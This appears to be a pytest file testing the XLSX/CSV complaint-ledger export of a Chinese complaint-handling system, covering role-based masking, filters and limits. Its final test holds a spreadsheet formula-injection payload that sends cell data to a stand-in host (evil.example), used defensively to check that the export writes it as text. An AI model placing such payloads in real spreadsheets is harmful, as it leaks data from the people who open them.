"""投诉台账: every complaint the viewer may see under the list's filters, one row each, as the
Excel ledger they kept before Kesu (XLSX or CSV) — scope, recusal and masking as in the list."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from helpers import login, receive
from kesu.access.models import User
from kesu.db.session import reading
from kesu.report import register

RECEIVER1 = "王晓丽"
HEADER_ZH = [
    "投诉编号",
    "原台账编号",
    "受理日期",
    "渠道",
    "门店",
    "部门",
    "类别",
    "级别",
    "标题",
    "状态",
    "受理人",
    "处理人",
    "下一时限",
    "结案日期",
    "满意度",
    "补偿金额",
]


def _sheet(response) -> list[list]:
    book = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


@pytest.fixture
def three(sessions, clock, org):
    """Two complaints, the newer one with a phone number in its title, and one about the clerk."""
    with reading(sessions) as session:
        clerk = session.scalar(select(User.id).where(User.username == "clerk"))
    first = receive(sessions, clock, org)
    clock.advance(minutes=5)
    second = receive(sessions, clock, org, title="回电 13912345678 未接通", level="L2")
    clock.advance(minutes=5)
    about = receive(sessions, clock, org, title="店员态度差", staff_complained_id=clerk)
    return first, second, about


def test_the_register_lists_every_visible_complaint_newest_first_with_readable_values(
    client, three
):
    first, second, about = three
    answer = client.get("/api/v1/register", headers=login(client, "director"))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    disposition = answer.headers["content-disposition"]
    assert unquote(disposition.split("filename*=UTF-8''")[1]).startswith("投诉台账-")

    rows = _sheet(answer)
    assert rows[0] == HEADER_ZH
    assert [r[0] for r in rows[1:]] == [about.number, second.number, first.number]
    newest = dict(zip(HEADER_ZH, rows[2], strict=True))
    assert newest["渠道"] == "电话"
    assert newest["门店"] == "上海南京路店"
    assert newest["级别"] != "L2" and newest["级别"]  # the pack's name for the level
    assert newest["状态"] == "新登记"
    assert newest["受理人"] == RECEIVER1
    # the director may not see this complaint's personal data: the number in the title is masked
    assert "13912345678" not in newest["标题"] and newest["标题"].startswith("回电 ")
    assert newest["受理日期"].strftime("%Y-%m-%d %H:%M") == "2026-11-26 10:05"


def test_the_receiver_sees_the_title_as_written_and_the_clerk_not_the_complaint_about_them(
    client, three
):
    _first, second, about = three
    rows = _sheet(client.get("/api/v1/register", headers=login(client, "receiver1")))
    titles = {r[0]: r[8] for r in rows[1:]}
    assert titles[second.number] == "回电 13912345678 未接通"

    rows = _sheet(client.get("/api/v1/register", headers=login(client, "clerk")))
    assert about.number not in [r[0] for r in rows[1:]]


def test_filters_and_english_csv(client, three):
    _first, second, _about = three
    answer = client.get(  # received between 10:03 and 10:07 Shanghai time: the second only
        "/api/v1/register?format=csv&received_from=2026-11-26T02:03:00Z"
        "&received_to=2026-11-26T02:07:00Z",
        headers={**login(client, "director"), "Accept-Language": "en"},
    )
    assert answer.status_code == 200
    assert answer.content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with its BOM
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Number", "Ledger number", "Received"]
    assert [r[0] for r in rows[1:]] == [second.number]
    assert rows[1][9] == "New"


def test_too_many_complaints_ask_for_narrower_dates_and_a_bad_format_is_named(
    client, three, monkeypatch
):
    monkeypatch.setattr(register, "LIMIT", 2)
    headers = login(client, "director")
    answer = client.get("/api/v1/register", headers=headers)
    assert answer.status_code == 422
    error = answer.json()["error"]
    assert error["field"] == "received_from"
    assert error["message"].startswith("受理日期（起）：符合条件的投诉超过 2 条")

    answer = client.get("/api/v1/register?format=pdf", headers=headers)
    assert answer.status_code == 422
    assert answer.json()["error"]["problems"][0]["field"] == "query.format"


def test_the_console_download_takes_local_dates_and_names_a_reversed_range(client, three):
    from web.console_helpers import sign_in

    first, second, about = three
    sign_in(client, "supervisor")
    answer = client.get("/register/download?from=2026-11-26&to=2026-11-26&format=csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == [about.number, second.number, first.number]
    later = client.get("/register/download?from=2026-11-27&to=2026-11-30&format=csv")
    assert later.content.decode("utf-8-sig").count("\n") == 1  # the header alone

    answer = client.get("/register/download?from=2026-11-26&to=2026-11-01")
    assert answer.status_code == 422
    assert "受理日期（止）：结束日期不能早于开始日期" in answer.text


def test_a_formula_typed_as_a_title_is_written_as_text_in_both_files(client, sessions, clock, org):
    """A title typed as =HYPERLINK(…) (the portal takes any text) opens as that text in Excel,
    with a leading apostrophe, never as a formula — as in the report exports."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    receive(sessions, clock, org, title=evil)
    headers = login(client, "receiver1")
    book = load_workbook(io.BytesIO(client.get("/api/v1/register", headers=headers).content))
    cell = book.active.cell(row=2, column=HEADER_ZH.index("标题") + 1)
    assert cell.value == "'" + evil and cell.data_type == "s"
    answer = client.get("/api/v1/register?format=csv", headers=headers)
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[1][HEADER_ZH.index("标题")] == "'" + evil
